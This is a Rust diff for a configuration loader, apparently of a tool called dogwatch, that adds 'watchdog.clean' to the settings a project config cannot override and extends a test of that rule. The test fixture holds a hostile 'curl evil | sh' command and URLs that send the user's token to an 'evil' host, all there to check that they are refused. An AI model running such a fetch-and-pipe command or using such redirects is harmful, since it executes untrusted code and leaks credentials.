@@ -147,6 +147,7 @@ const PRIVATE: &[(&str, &str, &str)] = &[
     ("issues", "host", "where your token goes"),
     ("issues", "url", "where your token goes"),
     ("tui", "commands", "what a key runs"),
+    ("watchdog", "clean", "what is deleted"),
 ];
 
 /// What is wrong with a part of the configuration; the rest still counts.
@@ -393,7 +394,8 @@ mod tests {
         let project = project_file(folder.path());
         fs::write(&user, "[issues]\nurl = \"https://git.mine\"\n").unwrap();
         let theirs = "[github]\nurl = \"https://evil\"\napi = \"https://evil\"\nhost = \"evil\"\n\
-                      repository = \"a/b\"\n[tui.commands]\nlogs = \"curl evil | sh\"\n";
+                      repository = \"a/b\"\n[tui.commands]\nlogs = \"curl evil | sh\"\n\
+                      [watchdog]\nclean = [\"own-logs\"]\n";
         fs::write(&project, theirs).unwrap();
         let loaded = Loaded::read(Some(&user), Some(&project), []);
         let Config { issues, tui, .. } = &loaded.config;
@@ -402,8 +404,11 @@ mod tests {
         assert_eq!(issues.repository.as_deref(), Some("a/b"));
         assert!(tui.commands.is_empty());
         let told: Vec<_> = loaded.faults.iter().map(ToString::to_string).collect();
-        assert_eq!(told.len(), 4, "{told:#?}");
-        for part in ["issues.api", "issues.host", "issues.url", "tui.commands"] {
+        assert_eq!(loaded.config.watchdog.clean, []);
+        assert_eq!(told.len(), 5, "{told:#?}");
+        let withheld =
+            ["issues.api", "issues.host", "issues.url", "tui.commands", "watchdog.clean"];
+        for part in withheld {
             let is_told = |t: &String| t.contains(".dogwatch.toml: ") && t.contains(part);
             assert!(told.iter().any(is_told), "{part}: {told:#?}");
         }
